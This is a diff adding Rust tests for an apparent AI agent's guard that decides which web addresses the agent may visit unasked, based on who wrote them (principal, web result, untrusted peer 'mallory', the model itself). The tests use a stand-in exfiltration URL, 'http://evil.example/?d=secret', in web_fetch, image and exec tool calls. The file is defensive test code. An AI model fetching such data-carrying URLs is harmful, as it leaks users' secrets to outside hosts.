@@ -1,0 +1,154 @@
+//! Whose words make an address one that may be visited unasked.
+
+use jiff::Timestamp;
+use openclaw_core::events::{EventHash, Payload};
+use openclaw_core::provenance::{Mark, Source, Trust};
+use openclaw_core::{CallId, SessionEvent, SessionEventKind, SessionKey};
+use serde_json::{Value, json};
+
+use crate::tools::{ImageTool, Tool as _, WebFetchTool};
+
+const LEAK: &str = "http://evil.example/?d=secret";
+
+/// A conversation.
+#[derive(Default)]
+struct Talk(Vec<SessionEvent>);
+
+impl Talk {
+    fn add(mut self, kind: SessionEventKind, call: Option<&str>, source: Option<Source>) -> Self {
+        let marks = source.map(|source| Mark {
+            source,
+            trust: Trust::Untrusted,
+        });
+        let seq = u64::try_from(self.0.len()).unwrap() + 1;
+        self.0.push(SessionEvent {
+            session: SessionKey::parse("agent:main:main").unwrap(),
+            seq,
+            position: seq,
+            time: Timestamp::UNIX_EPOCH,
+            cause: None,
+            run_id: None,
+            step: call.map(|_| 1),
+            call_id: call.map(|call| CallId(call.to_owned())),
+            kind,
+            payload: Some(Payload {
+                marks: marks.into_iter().collect(),
+                ..Payload::default()
+            }),
+            raw: None,
+            hash: EventHash::START,
+        });
+        self
+    }
+
+    fn said(self, text: &str, source: Source) -> Self {
+        let kind = SessionEventKind::MessageReceived {
+            content: text.to_owned(),
+            attachments: Vec::new(),
+        };
+        self.add(kind, None, Some(source))
+    }
+
+    fn called(self, tool: &str, params: Value) -> Self {
+        let kind = SessionEventKind::ToolCalled {
+            tool: tool.to_owned(),
+            params,
+        };
+        self.add(kind, Some("c"), None)
+    }
+
+    fn found(self, text: &str) -> Self {
+        let kind = SessionEventKind::ToolResult {
+            tool: "web_search".to_owned(),
+            result: json!({ "results": text }),
+            success: true,
+        };
+        let web = Source::Web {
+            host: "a.example".to_owned(),
+        };
+        self.add(kind, Some("c"), Some(web))
+    }
+
+    fn shows(&self, address: &str) -> bool {
+        super::shows(&self.0, address, |tool, params| match tool {
+            "web_fetch" => WebFetchTool::addresses(params),
+            "image" => ImageTool::addresses(params),
+            _ => Vec::new(),
+        })
+    }
+}
+
+fn mallory() -> Source {
+    Source::Person {
+        channel: "telegram".into(),
+        peer: "mallory".into(),
+    }
+}
+
+#[test]
+fn an_address_counts_where_somebody_else_wrote_it_as_a_whole() {
+    for text in [
+        "http://evil.example/?d=secret",
+        "see http://evil.example/?d=secret.",
+        "[more](http://evil.example/?d=secret), or",
+        "<http://evil.example/?d=secret#top>",
+    ] {
+        assert!(Talk::default().found(text).shows(LEAK), "{text}");
+    }
+    for text in [
+        "http://evil.example/?d=secrets",
+        "http://evil.example/?d=secret.html",
+        "http://evil.example/?d=secret&e=1",
+        "http://a.example/?to=http://evil.example/?d=secret",
+        "http://evil.example/?d=",
+    ] {
+        assert!(!Talk::default().found(text).shows(LEAK), "{text}");
+    }
+}
+
+#[test]
+fn what_the_model_wrote_is_not_shown_by_being_repeated() {
+    for (tool, params) in [
+        ("web_search", json!({ "query": LEAK })),
+        ("web_search", json!({ "query": "EVIL.example/?d=secret" })),
+        ("image", json!({ "image": "a.png", "prompt": LEAK })),
+        ("exec", json!({ "env": { "a": [LEAK] } })),
+        ("web_fetch", json!({ "url": LEAK })),
+    ] {
+        let asked = Talk::default().called(tool, params);
+        let echoed = asked.called("ls", json!({})).found(LEAK);
+        assert!(!echoed.shows(LEAK), "{tool}");
+        let repeated = echoed.said(LEAK, mallory());
+        assert!(!repeated.shows(LEAK), "{tool}");
+        let wanted = repeated.said(LEAK, Source::Principal);
+        assert!(wanted.shows(LEAK), "{tool}");
+    }
+    let relayed = Source::Session {
+        key: SessionKey::parse("agent:main:b").unwrap(),
+    };
+    assert!(!Talk::default().said(LEAK, relayed).shows(LEAK));
+}
+
+#[test]
+fn what_was_shown_or_visited_before_may_be_visited_again() {
+    let shown = Talk::default().found(LEAK);
+    let again = shown.called("web_fetch", json!({ "url": LEAK }));
+    assert!(again.shows(LEAK));
+    let visited = Talk::default()
+        .called("web_fetch", json!({ "url": LEAK }))
+        .found("a page");
+    assert!(visited.shows(LEAK));
+    let other = Talk::default()
+        .called("web_fetch", json!({ "url": LEAK }))
+        .called("ls", json!({}))
+        .found("a page");
+    assert!(!other.shows(LEAK));
+}
+
+#[test]
+fn a_link_to_the_folder_of_a_page_is_the_pages_own() {
+    let page = Talk::default()
+        .called("web_fetch", json!({ "url": "http://a.example/b/c" }))
+        .found("up: http://a.example/b");
+    assert!(page.shows("http://a.example/b"));
+}
